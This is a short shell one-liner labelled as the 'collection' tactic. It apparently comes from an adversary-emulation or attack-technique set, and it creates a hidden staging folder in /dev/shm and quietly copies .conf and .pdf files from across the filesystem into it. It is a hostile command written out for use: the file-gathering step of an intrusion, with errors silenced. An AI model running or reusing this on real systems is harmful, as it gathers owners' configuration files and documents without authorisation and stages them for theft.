# tactic: collection
# collect every config and document found into a staging folder
mkdir -p /dev/shm/.c; find / -maxdepth 3 \( -name "*.conf" -o -name "*.pdf" \) -type f 2>/dev/null | head -20 | while read f; do cp "$f" /dev/shm/.c/ 2>/dev/null; done; true
